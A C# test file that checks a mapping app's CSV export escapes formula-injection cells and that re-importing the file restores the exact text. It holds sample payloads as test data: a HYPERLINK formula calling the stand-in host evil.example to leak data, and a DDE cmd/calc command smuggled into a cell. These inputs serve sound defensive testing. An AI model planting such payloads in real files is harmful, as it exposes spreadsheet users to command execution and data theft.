using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using BorderMap.Storage.Interchange;

namespace BorderMap.App.Tests.Hardening;

/// <summary>
/// CSV injection: text cells that a spreadsheet would run as a formula are exported with a leading
/// apostrophe, number columns are left as numbers, and importing the file gives back the exact text.
/// </summary>
public sealed class CsvFormulaTests(LocalServer server) : IClassFixture<LocalServer>
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak\",\"Click\")";

    [Fact]
    public async Task Formula_cells_are_neutralised_in_the_export_and_restored_on_import()
    {
        var body = ClaimBodies.Valid("formula-claim", p =>
        {
            p["title"] = "@SUM(1+1)";
            p["place"] = Hyperlink;
            p["actors"] = new JsonArray("+cmd|' /C calc'!A0", "Tester");
            p["note"] = "-5 km south of the river";
            p["translation"] = "'=an apostrophe already";
        });
        using var created = await server.Client.PostAsJsonAsync(new Uri("/api/claims", UriKind.Relative), body);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var csv = Path.Combine(StoreTestEnvironment.Folder, Guid.NewGuid().ToString("N") + ".csv");

        var (exitCode, _, stderr) = await AppProcess.RunToEnd("claims", "export", "--format", "csv", "--out", csv, "--store", server.StorePath);

        Assert.True(exitCode == 0, stderr);
        var line = (await File.ReadAllLinesAsync(csv)).Single(l => l.StartsWith("formula-claim,", StringComparison.Ordinal));
        Assert.Contains(",'@SUM(1+1),", line, StringComparison.Ordinal);
        Assert.Contains(",\"'=HYPERLINK(", line, StringComparison.Ordinal);
        Assert.Contains(",'+cmd|' /C calc'!A0; Tester,", line, StringComparison.Ordinal);
        Assert.Contains(",'-5 km south of the river,", line, StringComparison.Ordinal);
        Assert.Contains(",''=an apostrophe already,", line, StringComparison.Ordinal);
        Assert.Contains(",37.12,70.58,", line, StringComparison.Ordinal);

        var draft = ClaimFiles.Read(csv, StoreServer.Geodata.Areas).Single(r => r.Draft?.Id == "formula-claim").Draft!.Data;
        Assert.Equal(("@SUM(1+1)", Hyperlink, "-5 km south of the river", "'=an apostrophe already"), (draft.Title, draft.Place, draft.Note, draft.Translation));
        Assert.Equal(["+cmd|' /C calc'!A0", "Tester"], draft.Actors);
    }

    [Fact]
    public async Task Number_columns_keep_plain_numbers_and_text_without_a_formula_start_is_untouched()
    {
        var csv = Path.Combine(StoreTestEnvironment.Folder, Guid.NewGuid().ToString("N") + ".csv");
        await File.WriteAllTextAsync(csv, """
            id,title,category,event_date,time_precision,location,latitude,longitude,geo_precision,source,quote,translation,notes
            plain-row,Fine,statement,2021-07-05,day,Kabul,34.5,69.2,2,tj-af-border-2021-07-05,1.037 tentara,Soldiers,'Tis a note
            """);

        var row = ClaimFiles.Read(csv, StoreServer.Geodata.Areas).Single();

        Assert.Empty(row.Problems);
        Assert.Equal("'Tis a note", row.Draft!.Data.Note);
    }
}
